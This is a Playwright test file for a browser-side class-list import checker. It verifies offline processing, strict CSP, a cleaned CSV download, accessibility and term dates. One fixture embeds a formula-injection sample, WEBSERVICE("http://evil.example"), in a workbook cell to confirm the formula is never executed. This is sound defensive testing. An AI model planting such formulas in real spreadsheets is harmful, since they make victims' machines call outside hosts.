@@ -1,0 +1,159 @@
+// Moving in with the lists one has: a messy CSV file and a messy workbook are checked on the device, and nothing is sent.
+import { readFile } from 'node:fs/promises';
+import { expect, type Page, type Request, test } from '@playwright/test';
+import { csvOf, messyRows, rawRow, rawWorkbook, workbook } from '../site/src/subjects/moving/test-files.ts';
+import { axeProblems } from './support/axe.ts';
+import { watch } from './support/console-and-requests.ts';
+import { stickingOut } from './support/sideways-scroll.ts';
+import { visit } from './support/visit.ts';
+
+const chooser = (page: Page) => page.locator('#class-list');
+const found = (page: Page, group: string) => page.getByRole('region', { name: group });
+
+/** A list of some text, or a file of so many bytes. */
+async function drop(page: Page, name: string, content: string | number): Promise<void> {
+  const dataTransfer = await page.evaluateHandle(
+    ({ name, content }) => {
+      const transfer = new DataTransfer();
+      const bytes = typeof content === 'number' ? new Uint8Array(content) : content;
+      transfer.items.add(new File([bytes], name));
+      return transfer;
+    },
+    { name, content },
+  );
+  await page.locator('fieldset', { has: chooser(page) }).dispatchEvent('drop', { dataTransfer });
+}
+
+async function cleaned(page: Page): Promise<string> {
+  const download = page.waitForEvent('download');
+  await page.getByRole('button', { name: 'Download the cleaned list' }).click();
+  return readFile(await (await download).path(), 'utf8');
+}
+
+test('a messy list is read, mended and given back, and not a byte is sent', async ({ page, context }) => {
+  const { messages } = watch(page);
+  const response = await page.goto('/moving');
+  expect(response?.status()).toBe(200);
+  // The policy that the browser keeps the page to.
+  expect(response?.headers()['content-security-policy']).toContain("connect-src 'none'");
+  expect(await page.evaluate(() => fetch('/robots.txt').then(String, () => 'refused'))).toBe('refused');
+  messages.length = 0;
+
+  // Reaching for a file loads the worker, and only that; its own policy lets it load and send nothing.
+  await expect(page.locator('astro-island[ssr]')).toHaveCount(0);
+  const requests: Request[] = [];
+  page.on('request', (request) => requests.push(request));
+  const [worker] = await Promise.all([
+    page.waitForResponse(/check\.worker/),
+    chooser(page).dispatchEvent('click'),
+  ]);
+  expect(worker.headers()['content-security-policy']).toContain("default-src 'none'");
+  await expect.poll(() => page.workers().length).toBe(1);
+
+  // From here on there is no network at all.
+  await context.setOffline(true);
+  await drop(page, 'S1 list.csv', csvOf(messyRows));
+  await expect(page.getByRole('heading', { name: 'S1 list.csv' })).toBeVisible();
+  const row = (group: string, number: number) =>
+    found(page, group).getByRole('row', { name: `Row ${number} ` });
+  await expect(row('Telephone numbers', 5)).toContainText('+256 670 000 001');
+  await expect(row('Telephone numbers', 7)).toContainText('A number has +256 and nine digits.');
+  await expect(row('On the list twice', 8)).toContainText('This row is left out.');
+  await expect(found(page, 'Formulas')).toContainText('An apostrophe keeps it as text');
+  await expect(page.getByText('Sir name → last_name')).toBeVisible();
+  const csv = await cleaned(page);
+  expect(csv.split('\r\n')).toHaveLength(7);
+  expect(csv).toContain(
+    'Nakato,Sarah,S.1,,UG24A0071836,F,2012-03-22,Joseph Ssali,+256 670 000 001,350000,1,Nile',
+  );
+  expect(csv).not.toMatch(/(?:^|,|")[=@]/m);
+
+  // The same list from Excel says the same.
+  await chooser(page).setInputFiles({
+    name: 'S1 list.xlsx',
+    mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+    buffer: Buffer.from(await workbook({ 'S.1': messyRows })),
+  });
+  await expect(page.getByRole('heading', { name: 'S1 list.xlsx' })).toBeVisible();
+  expect(await cleaned(page)).toBe(csv);
+
+  // A workbook with a formula is read by its last result.
+  await chooser(page).setInputFiles({
+    name: 'formula.xlsx',
+    mimeType: 'application/zip',
+    buffer: Buffer.from(
+      rawWorkbook(
+        `${rawRow(1, 'Surname', 'First name', 'Class')}<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil.example")</f><v>Nakato</v></c></row>`,
+      ),
+    ),
+  });
+  await expect(found(page, 'Formulas')).toContainText('the formula is not run');
+
+  // A large file is refused without being read, an old one with the way out.
+  await drop(page, 'big.csv', 50_000_000);
+  await expect(page.getByRole('alert')).toContainText('This file is too large for a class list');
+  await chooser(page).setInputFiles({
+    name: 'old.xls',
+    mimeType: 'application/vnd.ms-excel',
+    buffer: Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]),
+  });
+  await expect(page.getByRole('alert')).toContainText('“Excel workbook (.xlsx)”');
+
+  const sent = requests.filter(
+    (request) => !request.url().startsWith('blob:') && !/check\.worker/.test(request.url()),
+  );
+  expect(sent.map((request) => `${request.method()} ${request.url()}`)).toEqual([]);
+  expect(messages).toEqual([]);
+});
+
+test('what was found can be read on every screen, in both themes', async ({ page }) => {
+  await visit(page, '/moving');
+  await page.getByRole('button', { name: 'Try it with an invented list' }).click();
+  await expect(page.getByRole('heading', { name: 'S1 list.csv' })).toBeVisible();
+  for (const [width, theme] of [
+    [360, 'light'],
+    [768, ''],
+    [1280, 'dark'],
+  ] as const) {
+    await page.setViewportSize({ width, height: 900 });
+    expect.soft(await stickingOut(page), `${width} px`).toEqual([]);
+    if (!theme) continue;
+    await page.evaluate((name) => {
+      document.documentElement.className = name;
+    }, theme);
+    expect.soft(await axeProblems(page), `${width} px, ${theme}`).toEqual([]);
+  }
+});
+
+test('the plan counts back from the next term, whenever the page is read', async ({ page }) => {
+  await page.clock.setFixedTime(new Date('2027-03-01T09:00:00+03:00'));
+  await visit(page, '/moving');
+  await expect(page.locator('#plan')).toContainText('Term II 2027 begins on 24 May 2027');
+  await expect(page.locator('#plan').getByRole('listitem').first()).toContainText('29 March 2027');
+});
+
+test('a template has the headings of the import', async ({ page }) => {
+  await visit(page, '/moving');
+  const download = page.waitForEvent('download');
+  await page.getByRole('link', { name: /^CSV ?: Learners$/ }).click();
+  const template = await readFile(await (await download).path(), 'utf8');
+  expect(template).toMatch(/^\ufefflast_name,first_name,class,/);
+});
+
+test.describe('without JavaScript', () => {
+  test.use({ javaScriptEnabled: false });
+
+  test('plan and templates are there, and the checker says what it needs', async ({ page }) => {
+    await visit(page, '/moving');
+    await expect(page.locator('#checker noscript p')).toBeVisible();
+    await expect(page.locator('#checker noscript a')).toHaveAttribute('href', /^mailto:support@/);
+    await expect(chooser(page)).toBeHidden();
+    await expect(page.locator('#plan').getByRole('listitem')).toHaveCount(9);
+    await expect(page.locator('#templates').getByRole('link')).toHaveCount(9);
+    // The search is a way to another page here, and so is Subscribe.
+    await expect(page.getByRole('banner').getByRole('link', { name: 'Search' })).toHaveAttribute(
+      'href',
+      '/search',
+    );
+  });
+});
